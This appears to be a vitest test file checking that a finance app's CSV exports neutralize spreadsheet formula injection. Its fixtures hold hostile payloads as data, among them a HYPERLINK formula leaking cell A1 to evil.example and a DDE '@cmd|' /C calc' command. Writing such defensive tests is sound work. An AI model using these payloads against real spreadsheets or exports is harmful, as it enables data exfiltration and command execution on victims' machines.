/**
 * CSV formula injection, end to end: text that people and bank files put into Cashline
 * (descriptions, account names, file names, a browser's User-Agent) comes out of every CSV
 * the product writes — the ledger export and the audit export — as text a spreadsheet will not
 * run, while the amounts stay numbers. And no code writes CSV except through the one writer.
 */
import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import Papa from "papaparse";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTenant, signedIn, TEST_PASSWORD, Client, type TestTenant } from "../support/fixtures.ts";

// What a spreadsheet runs as a formula when a cell starts with it (OWASP).
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
const EVIL_AGENT = `=HYPERLINK("http://evil.example/?"&A1,"Click")`;

let t: TestTenant;
let admin: Client;
let owner: pg.Client;
let accountId: string;

const stepUp = (userId: string) => owner.query(`UPDATE "Session" SET "mfaVerifiedAt" = now() WHERE "userId" = $1`, [userId]);

function parse(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text.replace(/\r\n$/, ""), { header: true, newline: "\r\n" });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** Every cell a spreadsheet would run: only declared number columns may start with "-", and only as numbers. */
function runnableCells(rows: Record<string, string>[], numberColumns: string[]): string[] {
  const found: string[] = [];
  for (const row of rows) {
    for (const [column, value] of Object.entries(row)) {
      if (numberColumns.includes(column) && (value === "" || NUMBER.test(value))) continue;
      if (FORMULA_START.test(value)) found.push(`${column}: ${JSON.stringify(value)}`);
    }
  }
  return found;
}

beforeAll(async () => {
  t = await createTenant("CSV injection");
  owner = new pg.Client({ connectionString: process.env.DATABASE_URL });
  await owner.connect();
  // Signed in from a "browser" whose User-Agent is a formula: it lands in the audit log.
  admin = new Client();
  admin.userAgent = EVIL_AGENT;
  await admin.signIn(t.users.admin.email);
  const account = await admin.json("/api/v1/accounts", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "=1+2 savings", currency: "USD" }) });
  expect(account.status).toBe(201);
  accountId = account.body.id;
  const lines = [
    "Date,Description,Amount",
    `2026-03-01,"=HYPERLINK(""http://evil.example"",""x"")",-12.50`,
    "2026-03-02,+SUM(1+1),100.00",
    "2026-03-03,-2+3 refund,-0.99",
    "2026-03-04,@cmd|' /C calc'!A0,5.00",
    `2026-03-05,"	=tab first",1.00`,
    "2026-03-06,Plain coffee,-3.20",
  ];
  const up = await admin.upload(accountId, "@evil.csv", lines.join("\n"));
  expect(up.status).toBe(202);
  expect((await admin.waitForStatement(up.body.id)).status).toBe("posted");
});
afterAll(async () => {
  await owner.end();
});

describe("the ledger export (CSV)", () => {
  it("neutralizes every formula-like text cell and keeps amounts numeric", async () => {
    await stepUp(t.users.admin.id);
    const res = await admin.fetch(`/api/v1/export?format=csv&accountId=${accountId}`);
    expect(res.status).toBe(200);
    const rows = parse(await res.text());
    expect(rows).toHaveLength(6);
    expect(runnableCells(rows, ["amount", "balance", "sourceRow"])).toEqual([]);
    expect(rows.map((r) => [r.description, r.amount])).toEqual([
      [`'=HYPERLINK("http://evil.example","x")`, "-12.5000"],
      ["'+SUM(1+1)", "100.0000"],
      ["'-2+3 refund", "-0.9900"],
      ["'@cmd|' /C calc'!A0", "5.0000"],
      [expect.stringMatching(/^'?=tab first$|^'\t=tab first$/), "1.0000"],
      ["Plain coffee", "-3.2000"],
    ]);
    expect(new Set(rows.map((r) => r.account))).toEqual(new Set(["'=1+2 savings"]));
    expect(new Set(rows.map((r) => r.statement))).toEqual(new Set(["'@evil.csv"]));
  });
});

describe("the audit export (CSV)", () => {
  it("neutralizes what requests and people wrote into events, and keeps seq numeric", async () => {
    await stepUp(t.users.admin.id);
    const res = await admin.fetch("/api/v1/audit/export?format=csv");
    expect(res.status).toBe(200);
    const rows = parse(await res.text());
    expect(rows.length).toBeGreaterThanOrEqual(4);
    expect(runnableCells(rows, ["seq"])).toEqual([]);
    expect(rows.map((r) => r.seq)).toEqual(rows.map((_r, i) => String(i + 1)));
    expect(rows.find((r) => r.action === "auth.login")).toMatchObject({ userAgent: `'${EVIL_AGENT}` });
    // The account's name is inside the event's JSON, which starts with "{" and stays as it is.
    const created = rows.find((r) => r.after.includes("=1+2 savings"));
    expect(created?.after).toMatch(/^\{/);
  });
});

describe("one CSV writer", () => {
  it("every module that answers with CSV writes it through app/domain/csv-export.ts", async () => {
    const writers: string[] = [];
    async function walk(dir: string): Promise<void> {
      for (const entry of await readdir(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) await walk(file);
        else if (/\.(ts|tsx)$/.test(entry.name) && !entry.name.includes(".test.")) {
          const source = await readFile(file, "utf8");
          if (/text\/csv|\.csv["`]|["']\\r\\n["']/.test(source) && !/from\s+["'][^"']*csv-export(\.ts)?["']/.test(source)) writers.push(path.relative(process.cwd(), file));
        }
      }
    }
    await walk(path.resolve("app"));
    // These mention CSV only to read it: type sniffing, the upload form's file filter, the demo
    // seed's fixture list. A new file here must write through the writer or be added with a reason.
    expect(writers.sort()).toEqual(["app/domain/sniff.ts", "app/routes/_app.uploads.tsx", "app/server/demo-seed.ts"]);
  });
});
